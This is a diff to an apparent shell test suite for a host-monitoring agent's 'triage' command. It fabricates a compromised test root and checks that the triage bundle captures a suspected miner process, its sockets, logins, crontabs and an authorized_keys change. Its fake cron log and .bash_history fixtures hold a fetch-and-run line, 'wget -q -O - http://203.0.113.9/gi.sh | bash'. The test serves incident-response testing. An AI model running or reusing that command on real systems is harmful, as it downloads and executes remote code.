@@ -148,6 +148,51 @@ expect second_reads_only_new "$(cat "$T/two.err") vs $N2 lines" has "$T/two.err"
 expect spool_grew_by_one "$NBEFORE -> $(ls "$SP"/*.hostevents.jsonl | wc -l)" \
 	test "$(ls "$SP"/*.hostevents.jsonl | wc -l)" -eq $((NBEFORE + 1))
 
+
+# --- triage: the bundle from the test root and this machine's /proc --------------------
+mkdir -p "$R/var/log"
+printf 'Dec  5 22:48:54 web-1 sshd[4242]: Accepted password for git from 198.51.100.7 port 52311 ssh2\n' >"$R/var/log/secure"
+printf 'Dec  5 22:50:01 web-1 CROND[5151]: (git) CMD (wget -q -O - http://203.0.113.9/gi.sh | bash)\n' >"$R/var/log/cron"
+printf 'wget -q -O - http://203.0.113.9/gi.sh | bash\ncrontab -e\n' >"$R/home/git/.bash_history"
+python3 - "$R/var/log/wtmp" <<'PY'
+import struct, sys, time
+f = "hi32s4s32s256shhiii4i20s"
+assert struct.calcsize(f) == 384
+def rec(t, pid, line, user, host):
+    return struct.pack(f, t, pid, line.encode(), b"ts/0", user.encode(), host.encode(), 0, 0, 0,
+                       int(time.time()) - 60, 0, 0, 0, 0, 0, b"")
+open(sys.argv[1], "wb").write(rec(2, 0, "~", "reboot", "5.15") + rec(7, 4242, "pts/0", "git", "198.51.100.7"))
+PY
+snap() { find "$R" -exec stat -c '%n %s %Y %a' {} + | sort | sha256sum; }
+BEFORE=$(snap)
+"$M" agent triage --out "$T/bundle.tar.gz" --root "$R" --db "$DB" --include-binaries --sample-ms 500 2>"$T/triage.err"; rc=$?
+expect triage_exit_0 "exit $rc: $(cat "$T/triage.err")" test $rc -eq 0
+tar tzf "$T/bundle.tar.gz" >"$T/bundle.list" 2>"$T/tar.err"
+expect triage_tar_lists "$(cat "$T/tar.err")" test -s "$T/bundle.list"
+for m in summary.txt processes.json sockets.json crontabs.json logins.json users.json \
+	fim_changes.json suspicious_binaries.json logs/secure.txt logs/cron.txt users/git/.bash_history; do
+	expect "triage_has_$m" "$(tr '\n' ' ' <"$T/bundle.list")" grep -qx "mamori-triage/$m" "$T/bundle.list"
+done
+mkdir -p "$T/bx" && tar xzf "$T/bundle.tar.gz" -C "$T/bx"
+B="$T/bx/mamori-triage"
+expect triage_json_valid "every .json parses" python3 -c "import json,glob,sys; [json.load(open(f)) for f in glob.glob(sys.argv[1]+'/*.json')]" "$B"
+expect triage_proc_hash "the miner's hash" sh -c "grep -q '$SHA' '$B/processes.json' && grep -q '$SHA' '$B/suspicious_binaries.json'"
+expect triage_summary_miner "$(head -12 "$B/summary.txt")" has "$B/summary.txt" "kthreaddw"
+expect triage_summary_conn "tcp -> 127.0.0.1:$PORT" has "$B/summary.txt" "tcp -> 127.0.0.1:$PORT"
+expect triage_sock_pid "socket with the miner's pid" has "$B/sockets.json" "\"rport\":$PORT,\"state\":\"ESTABLISHED\",\"inode\":[0-9]*,\"pid\":$MPID"
+expect triage_login "git from 198.51.100.7" python3 -c "import json,sys; l=json.load(open(sys.argv[1])); assert any(r['user']=='git' and r['host']=='198.51.100.7' and r['type']=='login' for r in l)" "$B/logins.json"
+expect triage_crontab_content "the cron download" has "$B/crontabs.json" "gi.sh | bash"
+expect triage_fim_keys "authorized_keys change" has "$B/fim_changes.json" "/home/git/.ssh/authorized_keys"
+expect triage_auth_lines "secure" has "$B/logs/secure.txt" "Accepted password for git"
+BIN=$(ls "$B"/binaries/*-kthreaddw 2>/dev/null | head -1)
+expect triage_binary_included "$(ls "$B/binaries" 2>&1)" sh -c "[ -n '$BIN' ] && [ \"\$(sha256sum <'$BIN' | cut -d' ' -f1)\" = '$SHA' ]"
+expect triage_changes_nothing "the test root changed" test "$BEFORE" = "$(snap)"
+"$M" agent triage --out "$T/nobin.tar.gz" --root "$R" --db "$DB" --sample-ms 100 -q 2>/dev/null
+expect triage_no_binaries_default "binaries only when asked" sh -c "! tar tzf '$T/nobin.tar.gz' | grep -q binaries/"
+SUMB=$(sha256sum <"$T/bundle.tar.gz")
+"$M" agent triage --out "$T/bundle.tar.gz" --root "$R" -q 2>/dev/null; rc=$?
+expect triage_never_overwrites "exit $rc" sh -c "[ $rc -eq 1 ] && [ \"\$(sha256sum <'$T/bundle.tar.gz')\" = '$SUMB' ]"
+
 # --- without --keep-spool, files read to their end are removed -------------------------
 "$M" agent --once --db "$DB" --root "$R" --no-logs --sample-ms 100 --format none -q 2>/dev/null
 expect spool_pruned "$(ls "$SP")" sh -c "! ls '$SP'/*.hostevents.jsonl >/dev/null 2>&1"
